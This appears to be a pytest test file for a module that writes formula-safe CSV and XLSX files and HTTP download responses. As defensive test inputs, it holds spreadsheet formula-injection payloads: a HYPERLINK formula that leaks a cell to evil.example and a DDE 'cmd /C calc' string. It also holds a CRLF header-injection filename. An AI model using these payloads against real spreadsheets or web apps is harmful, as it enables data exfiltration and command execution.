"""common.tabular: the formula-safe cell writer behind every CSV and XLSX the app writes."""

import csv
import datetime
import io
from decimal import Decimal as D

import pytest
from openpyxl import load_workbook

from common.tabular import csv_lines, csv_response, safe_cell, write_csv, write_xlsx, xlsx_response

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_safe_cell_escapes_each_dangerous_prefix(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["Ada Lovelace", "a=b", " =1+1", "1+1", "O'Brien", "", "—dash", "'already quoted", "\n=1"]
)
def test_safe_cell_leaves_harmless_text(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize(
    "value",
    [
        0,
        -3,
        12,
        D("-12.50"),
        D("1234.56"),
        -1.5,
        True,
        datetime.date(2026, 1, 31),
        datetime.datetime(2026, 1, 31, 9, 30, tzinfo=datetime.UTC),
    ],
)
def test_safe_cell_leaves_numbers_and_dates_typed(value):
    assert safe_cell(value) is value


def test_safe_cell_writes_none_as_empty_and_other_objects_as_text():
    class Named:
        def __str__(self):
            return "=cmd|' /C calc'!A0"

    assert safe_cell(None) == ""
    assert safe_cell(Named()) == "'=cmd|' /C calc'!A0"


ROWS = [
    ["name", "amount", "count", "day", "at"],
    [HOSTILE[0], D("-12.50"), -3, datetime.date(2026, 1, 31), datetime.datetime(2026, 1, 31, 9, 30)],
    ["@SUM(A1)", D("1234.56"), 7, None, None],
    ["Zoë O'Brien", D("1E+3"), 0, None, None],
]


def test_write_csv_reads_back_with_csv():
    out = io.StringIO(newline="")

    write_csv(ROWS, out)

    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows == [
        ["name", "amount", "count", "day", "at"],
        ["'" + HOSTILE[0], "-12.50", "-3", "2026-01-31", "2026-01-31T09:30:00"],
        ["'@SUM(A1)", "1234.56", "7", "", ""],
        ["Zoë O'Brien", "1000", "0", "", ""],
    ]


def test_write_csv_with_bom_starts_with_it():
    out = io.StringIO(newline="")

    write_csv([["a"]], out, bom=True)

    assert out.getvalue() == "\ufeffa\r\n"


def test_csv_lines_stream_each_row_and_the_bom_once():
    lines = list(csv_lines([["a", "=1"], ["b", 2]], bom=True))

    assert lines == ["\ufeffa,'=1\r\n", "b,2\r\n"]
    assert list(csv_lines([], bom=True)) == ["\ufeff"]


def test_csv_response_streams_utf8_with_a_safe_filename():
    response = csv_response([["name"], ["=1+1"], ["Zoë"]], 'rejected "rows"\r\nSet-Cookie: x.csv', bom=True)

    body = b"".join(response.streaming_content)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (  # no header injection: the line break is percent-encoded
        "attachment; filename*=utf-8''rejected%20%22rows%22%0D%0ASet-Cookie%3A%20x.csv"
    )
    assert body == "\ufeffname\r\n'=1+1\r\nZoë\r\n".encode()


def test_csv_response_names_a_non_ascii_file_in_rfc_5987():
    response = csv_response([["a"]], "Zoë.csv")

    assert response["Content-Disposition"] == "attachment; filename*=utf-8''Zo%C3%AB.csv"


def test_write_xlsx_reads_back_with_openpyxl_numbers_as_numbers_dates_as_dates_text_never_a_formula():
    out = io.BytesIO()

    write_xlsx(ROWS, out, sheet_title="Rejected rows")

    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    assert sheet.title == "Rejected rows"
    cells = list(sheet.iter_rows(min_row=2, max_row=3))
    hostile, amount, count, day, at = cells[0]
    assert (hostile.value, hostile.data_type, hostile.quotePrefix) == (HOSTILE[0], "s", True)
    assert (amount.value, amount.data_type, amount.number_format) == (-12.5, "n", "#,##0.00")
    assert (count.value, count.data_type) == (-3, "n")
    assert (day.value, day.is_date, day.number_format) == (datetime.datetime(2026, 1, 31), True, "yyyy-mm-dd")
    assert (at.value, at.is_date) == (datetime.datetime(2026, 1, 31, 9, 30), True)
    assert (cells[1][0].value, cells[1][0].data_type, cells[1][0].quotePrefix) == ("@SUM(A1)", "s", True)
    assert (cells[1][3].value, cells[1][4].value) == (None, None)
    plain = sheet.cell(row=1, column=1)
    assert (plain.value, plain.quotePrefix) == ("name", False)


def test_write_xlsx_stores_no_formula_anywhere():
    out = io.BytesIO()

    write_xlsx([[text] for text in HOSTILE], out)

    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    read_back = [(row[0].value, row[0].data_type, row[0].quotePrefix) for row in sheet.iter_rows()]
    assert read_back == [(text.replace("\r", "\n"), "s", True) for text in HOSTILE]  # XML reads CR as LF


def test_write_xlsx_writes_aware_datetimes_in_local_time_and_replaces_characters_xml_cannot_hold(settings):
    settings.TIME_ZONE = "Europe/Paris"
    out = io.BytesIO()

    write_xlsx([[datetime.datetime(2026, 1, 31, 9, 30, tzinfo=datetime.UTC), "a\x00b\x1fc"]], out)

    at, text = next(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())
    assert at.value == datetime.datetime(2026, 1, 31, 10, 30)
    assert text.value == "a\ufffdb\ufffdc"


def test_xlsx_response_is_a_workbook_download():
    response = xlsx_response([["a", 1]], "journal.xlsx")

    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"] == 'attachment; filename="journal.xlsx"'
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert [cell.value for cell in next(sheet.iter_rows())] == ["a", 1]
